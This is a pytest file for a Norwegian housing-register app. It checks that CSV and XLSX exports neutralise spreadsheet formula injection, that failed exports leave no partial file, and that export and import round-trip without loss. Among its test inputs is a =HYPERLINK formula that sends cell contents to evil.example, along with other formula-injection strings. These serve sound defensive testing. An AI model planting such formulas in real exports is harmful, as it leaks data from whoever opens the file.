"""Exports that are safe to open (issue 12, section 5).

1. Formula injection is neutralised in every CSV and XLSX (OWASP): a text cell beginning with
   ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a quote in front, and an
   XLSX cell is never a formula; numbers stay numbers.
2. An export is complete or absent: a writer that fails leaves no file, and an earlier file at
   the path as it was.
3. Export → import is lossless for every register field, in CSV, XLSX, GeoJSON and GPKG, on the
   demo and on hand-made hard values; and an area system's export imports back as it was.
"""

from __future__ import annotations

import datetime as dt
import io
import itertools

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pytest
import shapely
from openpyxl.utils.exceptions import IllegalCharacterError
from sqlalchemy.orm import Session

from geoplan import service
from geoplan.io import values
from geoplan.io.formula_safe import FORMULA_STARTS, neutralise, neutralise_text, restore_text
from geoplan.storage import repo
from geoplan.ui.unit_table import to_csv_bytes, to_xlsx_bytes
from geoplan.unit_fields import FIELD_BY_NAME, REGISTER_FIELDS

FORMATS = (".csv", ".xlsx", ".geojson", ".gpkg")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Klikk")'

# --------------------------------------------------------------------------- 1. the neutraliser


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    (HYPERLINK, "'" + HYPERLINK),
    ("+47 912 34 567", "'+47 912 34 567"),
    ("-Nordre", "'-Nordre"),
    ("-5", "'-5"),                      # text that looks like a number is still text
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("'=already quoted", "''=already quoted"),  # so that restore_text is the exact inverse
    ("''", "'''"),
    # left alone
    ("Storgata 12 B", "Storgata 12 B"),
    ("Bjørnstjerne Bjørnsons gate æøå ÆØÅ", "Bjørnstjerne Bjørnsons gate æøå ÆØÅ"),
    ("a=b", "a=b"),
    ("0150", "0150"),
    ("'s-Hertogenbosch", "'s-Hertogenbosch"),
    ("'", "'"),
    ("", ""),
    (" =1", " =1"),  # a spreadsheet reads a leading space as text (OWASP lists no space)
])
def test_neutralise_text(value, written):
    assert neutralise_text(value) == written
    assert restore_text(written) == value


def test_every_formula_start_is_quoted():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for start in FORMULA_STARTS:
        assert neutralise_text(start + "x") == "'" + start + "x"


def test_restore_is_the_exact_inverse_on_every_short_string():
    # every string of up to 4 characters over the characters that matter: 6**0 + … + 6**4
    alphabet = ["=", "-", "'", "\t", "a", "@"]
    n = 0
    for k in range(5):
        for chars in itertools.product(alphabet, repeat=k):
            s = "".join(chars)
            written = neutralise_text(s)
            assert restore_text(written) == s, repr(s)
            assert written[:1] not in FORMULA_STARTS, repr(s)
            n += 1
    assert n == 1 + 6 + 36 + 216 + 1296


def test_neutralise_frame_keeps_numbers_dates_and_blanks():
    frame = pd.DataFrame({
        "=header": ["=1+1", "ok", None, "-x"],
        "amount": [-5.5, 1.0, np.nan, -1e6],
        "count": pd.array([-3, 0, None, 7], dtype="Int64"),
        "flag": [True, False, None, True],
        "when": [dt.date(2020, 1, 31), None, dt.date(1900, 1, 1), dt.date(2026, 10, 1)],
        "mixed": ["@a", -2, 3.5, pd.NA],
        "arrow": pd.array(["+1", None, "b", "c"], dtype="string"),
        "cat": pd.Categorical(["-a", "b", "-a", "b"]),
    })
    before = frame.copy()
    out = neutralise(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not changed
    assert out.columns.tolist() == ["'=header", "amount", "count", "flag", "when", "mixed",
                                    "arrow", "cat"]
    assert [None if pd.isna(v) else v for v in out["'=header"]] == ["'=1+1", "ok", None, "'-x"]
    pd.testing.assert_series_equal(out["amount"], frame["amount"])
    pd.testing.assert_series_equal(out["count"], frame["count"])
    assert out["flag"].tolist() == [True, False, None, True]
    assert out["when"].tolist() == frame["when"].tolist()
    assert out["mixed"].tolist()[:3] == ["'@a", -2, 3.5] and out["mixed"][3] is pd.NA
    assert out["arrow"].tolist()[0] == "'+1" and out["arrow"].tolist()[2:] == ["b", "c"]
    assert out["cat"].tolist() == ["'-a", "b", "'-a", "b"]


# ------------------------------------------------------------ CSV and XLSX as written by the app

TABLE = pd.DataFrame({
    "Adresse": [HYPERLINK, "Storgata 1", "-Nordre vei 2", "@cmd", "\tTab", "\rCR", "+4791234567"],
    "Leie": [-1250.5, 9850.0, 0.0, 1.5, 2.0, 3.0, 4.0],
    "Rom": [-1, 2, 3, 4, 5, 6, 7],
})


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("write", [
    lambda t: service.table_bytes(t, ".xlsx", "Boliger"),
    lambda t: to_xlsx_bytes(t, "Boliger"),
])
def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers(write):
    cells = _xlsx_cells(write(TABLE))
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    link = by_value["'" + HYPERLINK]
    assert link.data_type == "s"
    assert all(by_value["'" + v].data_type == "s" for v in ("-Nordre vei 2", "@cmd", "+4791234567"))
    assert by_value[-1250.5].data_type == "n" and by_value[-1].data_type == "n"
    assert "Storgata 1" in by_value


def test_unneutralised_xlsx_would_hold_a_formula():
    """The failing-first check: what pandas writes without the neutraliser is a live formula."""
    buf = io.BytesIO()
    TABLE.to_excel(buf, index=False)
    assert any(c.data_type == "f" for c in _xlsx_cells(buf.getvalue()))


def test_page_csv_is_quoted_and_keeps_decimal_comma():
    text = to_csv_bytes(TABLE).decode("utf-8-sig")
    lines = text.split("\r\n")  # RFC 4180; a CR or LF inside a cell is quoted
    assert lines[0] == "Adresse;Leie;Rom"
    assert lines[1] == "\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Klikk\"\")\";-1250,5;-1"
    assert lines[3] == "'-Nordre vei 2;0,0;3"
    assert lines[4] == "'@cmd;1,5;4"
    assert lines[5:7] == ["'\tTab;2,0;5", "\"'\rCR\";3,0;6"]
    assert lines[7] == "'+4791234567;4,0;7"
    # every cell of the Adresse column, read back as text, begins with a harmless character
    back = pd.read_csv(io.StringIO(text), sep=";", dtype=str, keep_default_na=False)
    assert all(v[:1] not in FORMULA_STARTS for v in back["Adresse"])
    assert [restore_text(v) for v in back["Adresse"]] == TABLE["Adresse"].tolist()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_neutralises(tmp_path, suffix):
    path = service.write_table(TABLE, tmp_path / f"rangering{suffix}", "rangering")
    if suffix == ".csv":
        assert "\r\n'@cmd;1.5;4\r\n" in path.read_bytes().decode("utf-8-sig")
    else:
        cells = _xlsx_cells(path.read_bytes())
        assert not any(c.data_type == "f" for c in cells)
        assert any(c.value == "'" + HYPERLINK and c.data_type == "s" for c in cells)


# ------------------------------------------------------------------------ hand-made hard units

LONG_STREET = "Æ" + "øå-" * 66 + "x"   # 200 characters, the street column's limit
assert len(LONG_STREET) == FIELD_BY_NAME["street"].length == 200
LONG_ID = "=ID-" + "9" * 56            # 60 characters, the unit id's limit
assert len(LONG_ID) == FIELD_BY_NAME["unit_id"].length == 60


def _unit(unit_id: str, x: float, **fields: object) -> dict:
    record = dict.fromkeys(REGISTER_FIELDS)
    record.update(unit_id=unit_id, x=x, y=6_754_000.25, unit_type="care", tenure="owned",
                  status="occupied", universal_design=False, wheelchair=False)
    record.update(fields)
    return record


HARD_UNITS = [
    _unit("H-01", 313_000.5, street="=1+1", house_number="12", letter="B", postal_code="0150",
          place="-Nordre Æsøy", building_id="@300000001", housing_company="+Borettslag",
          gnr=12, bnr=345, fnr=0, snr=2, rooms=3, floor_area=54.35, floor=0,
          universal_design=True, wheelchair=True, monthly_rent=9850.5,
          purchase_price=2_450_000.0, target_group="elderly",
          acquired=dt.date(1900, 1, 1), disposed=dt.date(2024, 12, 31),
          contract_end=dt.date(2030, 2, 28)),
    _unit("H-02", 313_100.0, street=HYPERLINK, postal_code="2406", place="ELVERUM",
          status="vacant", target_group="refugees", acquired=dt.date(2020, 2, 29)),
    _unit(LONG_ID, 313_200.123, street=LONG_STREET, house_number="1-3", letter="Å",
          place="Ærøy øst", tenure="leased", unit_type="transitional"),
    _unit("H-04", 313_400.0),  # every optional field blank
]
# Values that begin with a quote before a formula character: the export quotes them once more
QUOTED_UNITS = [
    _unit("'=H-05", 313_300.0, street="'s-Gravendal", place="'+quoted", housing_company="''",
          wheelchair=True),
]
FORMULAS = ("=1+1", "-x", "@x", "+x", "\tx", "Storgata 1", "'s-Gravendal")
QUOTED = ("'=H-05", "'+quoted", "''")


@pytest.mark.parametrize("suffix", FORMATS)
@pytest.mark.parametrize("value", FORMULAS + QUOTED)
def test_reader_reads_back_what_was_exported(suffix, value, tmp_path):
    """The export quotes "=1+1" as "'=1+1" and "'=H-05" as "''=H-05" in CSV and XLSX only; the
    reader undoes exactly that (geoplan.io.formula_safe.restore_text), for those formats only."""
    from geoplan.io.export import write_frame
    from geoplan.io.files import read_table

    frame = gpd.GeoDataFrame({"street": pd.Series([value], dtype=object)},
                             geometry=[shapely.Point(313_000, 6_754_000)], crs=25833)
    raw = read_table(write_frame(frame, tmp_path / f"t{suffix}", "t"))
    assert values.text(raw.frame["street"].iloc[0]) == value.strip()


UNITS = {"formulas": HARD_UNITS, "quoted": QUOTED_UNITS}


def _insert(engine, records: list[dict]):
    with Session(engine) as s, s.begin():
        repo.upsert_units(s, records, "hand-made")
    return engine


@pytest.fixture
def hard(bounded):
    return _insert(bounded, HARD_UNITS)


def _register(engine) -> pd.DataFrame:
    units = pd.DataFrame(repo.load_units(engine))[list(REGISTER_FIELDS)]
    return units.set_index("unit_id", drop=False).sort_index()


def _assert_same_register(a: pd.DataFrame, b: pd.DataFrame, xy_tolerance: float) -> None:
    assert b.index.tolist() == a.index.tolist()
    for name in REGISTER_FIELDS:
        if name in ("x", "y"):
            assert b[name].tolist() == pytest.approx(a[name].tolist(), abs=xy_tolerance), name
            continue
        left = [None if pd.isna(v) else v for v in a[name]]
        right = [None if pd.isna(v) else v for v in b[name]]
        assert right == left, name


def _fresh_with_boundary(engine_factory, source):
    fresh = engine_factory()
    muni = repo.municipality(source)
    with Session(fresh) as s, s.begin():
        repo.set_municipality(s, muni.number, muni.name, muni.boundary)
    return fresh


TOLERANCE = {".csv": 1e-6, ".xlsx": 1e-6, ".geojson": 0.002, ".gpkg": 1e-6}


@pytest.mark.parametrize(("kind", "suffix"), [(kind, s) for kind in UNITS for s in FORMATS])
def test_hard_values_round_trip(bounded, admin, tmp_path, kind, suffix, engine_factory):
    """=1+1, -Nordre, @…, +…, æøå, 0150, 200 characters, dates, blanks: every field as it was,
    in a fresh database; and re-imported into the same one, nothing new and nothing changed."""
    units = UNITS[kind]
    source = _insert(bounded, units)
    path = service.export_units(source, tmp_path / f"boliger{suffix}")
    fresh = _fresh_with_boundary(engine_factory, source)
    summary = service.import_file(fresh, admin, "units", path)
    assert (summary.created, summary.updated) == (len(units), 0)
    _assert_same_register(_register(source), _register(fresh), TOLERANCE[suffix])
    again = service.import_file(source, admin, "units", path)
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(units))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exported_register_is_neutralised(hard, tmp_path, suffix):
    path = service.export_units(hard, tmp_path / f"boliger{suffix}")
    if suffix == ".csv":
        table = pd.read_csv(path, sep=";", dtype=str, keep_default_na=False)
    else:
        cells = _xlsx_cells(path.read_bytes())
        assert not any(c.data_type == "f" for c in cells)
        table = pd.read_excel(path, dtype=object)
    row = table.set_index("unit_id").loc["H-01"]
    assert row["street"] == "'=1+1" and row["place"] == "'-Nordre Æsøy"
    assert row["building_id"] == "'@300000001" and row["housing_company"] == "'+Borettslag"
    assert str(row["postal_code"]).zfill(4) == "0150"
    text_cells = table.to_numpy().ravel()
    assert not [v for v in text_cells if isinstance(v, str) and v[:1] in FORMULA_STARTS]


# ---------------------------------------------------------------------------- the demo register


@pytest.mark.parametrize("suffix", FORMATS)
def test_demo_register_round_trips(demo_engine, admin, tmp_path, suffix, engine_factory):
    before = _register(demo_engine)
    path = service.export_units(demo_engine, tmp_path / f"demo{suffix}")
    # into a fresh database with the same boundary: every field of every unit as it was
    fresh = _fresh_with_boundary(engine_factory, demo_engine)
    summary = service.import_file(fresh, admin, "units", path)
    assert summary.created == len(before) == 455
    _assert_same_register(before, _register(fresh), TOLERANCE[suffix])
    # into the same database: nothing new, nothing changed
    again = service.import_file(demo_engine, admin, "units", path)
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(before))


def test_demo_area_system_round_trips(demo_engine, admin, tmp_path, engine_factory):
    system = service.default_system(demo_engine)
    assert system == "grunnkrets"
    before = repo.load_areas(demo_engine, system)
    for suffix in (".geojson", ".gpkg"):
        path = service.export_areas(demo_engine, tmp_path / f"areas{suffix}", system)
        fresh = engine_factory()
        summary = service.import_file(fresh, admin, "areas", path, system=system)
        assert summary.rows == len(before)
        after = repo.load_areas(fresh, system)
        cols = ["code", "name", "population", "dwellings"]
        pd.testing.assert_frame_equal(pd.DataFrame(after[cols]), pd.DataFrame(before[cols]),
                                      check_dtype=False)
        assert after.indicators.tolist() == before.indicators.tolist()
        # the same polygons, to a millimetre (GeoJSON goes through EPSG:4326)
        moved = after.geometry.symmetric_difference(before.geometry, align=False).area
        assert (moved / before.geometry.area).max() < 1e-6


SQUARES = gpd.GeoDataFrame(
    {"grunnkretsnummer": ["0101", "-0102"], "grunnkretsnavn": ["=Sentrum nord", "Vestad æøå"],
     "befolkning": [1200, 0], "boliger": [600, 350], "andel_leie": ["0,25", "0,1"],
     "inntekt": [-1.5, 2e6]},
    geometry=[shapely.box(310_000, 6_750_000, 313_000, 6_758_000),
              shapely.box(313_000, 6_750_000, 316_000, 6_758_000)],
    crs=25833,
)


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_area_indicators_round_trip(engine, admin, tmp_path, suffix, engine_factory):
    source = tmp_path / "grunnkretser.gpkg"
    SQUARES.to_file(source)
    service.import_file(engine, admin, "areas", source, system="grunnkrets")
    before = repo.load_areas(engine, "grunnkrets")
    assert before.code.tolist() == ["-0102", "0101"]  # in code order
    assert before.indicators.tolist() == [{"andel_leie": 0.1, "inntekt": 2e6},
                                          {"andel_leie": 0.25, "inntekt": -1.5}]
    path = service.export_areas(engine, tmp_path / f"areas{suffix}", "grunnkrets")
    fresh = engine_factory()
    service.import_file(fresh, admin, "areas", path, system="grunnkrets")
    after = repo.load_areas(fresh, "grunnkrets")
    cols = ["code", "name", "population", "dwellings", "indicators"]
    assert after[cols].to_dict("records") == before[cols].to_dict("records")
    assert after.geometry.area.tolist() == pytest.approx(before.geometry.area.tolist(),
                                                         rel=1e-9)


# ------------------------------------------------------------------------------ atomic exports


def _listing(folder) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _bad_frame(n: int = 200) -> gpd.GeoDataFrame:
    """Units whose last one has a text no writer can encode (a lone surrogate): the GeoJSON and
    GPKG drivers fail after the file is created and the first rows are written."""
    names = pd.Series([f"Gate {i}" for i in range(n - 1)] + ["bad \udc80"], dtype=object)
    return gpd.GeoDataFrame({"street": names},
                            geometry=shapely.points(np.full(n, 313_000.0),
                                                    np.full(n, 6_754_000.0)), crs=25833)


@pytest.mark.parametrize("suffix", [".geojson", ".gpkg"])
def test_failed_spatial_export_leaves_no_file(tmp_path, suffix):
    from geoplan.io.export import write_frame

    path = tmp_path / f"boliger{suffix}"
    with pytest.raises(UnicodeEncodeError):
        write_frame(_bad_frame(), path, "units")
    assert _listing(tmp_path) == []
    # a good export first; a failed one afterwards leaves it byte for byte
    write_frame(_bad_frame().iloc[:-1], path, "units")
    good = path.read_bytes()
    with pytest.raises(UnicodeEncodeError):
        write_frame(_bad_frame(), path, "units")
    assert _listing(tmp_path) == [path.name] and path.read_bytes() == good


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_failed_table_export_leaves_no_file(tmp_path, suffix):
    """A control character breaks openpyxl (IllegalCharacterError); a lone surrogate the CSV's
    UTF-8.  Without the temporary file pandas left a half-written workbook behind."""
    path = tmp_path / f"rangering{suffix}"
    service.write_table(TABLE, path, "rangering")
    good = path.read_bytes()
    bad = TABLE.astype({"Adresse": object})
    bad.loc[6, "Adresse"] = "NUL\x00" if suffix == ".xlsx" else "bad \udc80"
    error = IllegalCharacterError if suffix == ".xlsx" else UnicodeEncodeError
    with pytest.raises(error):
        service.write_table(bad, path, "rangering")
    assert _listing(tmp_path) == [path.name] and path.read_bytes() == good
    path.unlink()
    with pytest.raises(error):
        service.write_table(bad, path, "rangering")
    assert _listing(tmp_path) == []


def test_export_replaces_an_earlier_file(hard, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    path = out / "boliger.gpkg"
    path.write_bytes(b"old")
    service.export_units(hard, path)
    assert path.read_bytes().startswith(b"SQLite format 3")
    assert len(gpd.read_file(path)) == len(HARD_UNITS) and _listing(out) == [path.name]


def test_unknown_format_writes_nothing(hard, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(ValueError, match="cannot export to '.pdf'"):
        service.export_units(hard, out / "boliger.pdf")
    with pytest.raises(ValueError, match="cannot write a table to '.txt'"):
        service.write_table(TABLE, out / "t.txt", "t")
    assert _listing(out) == []
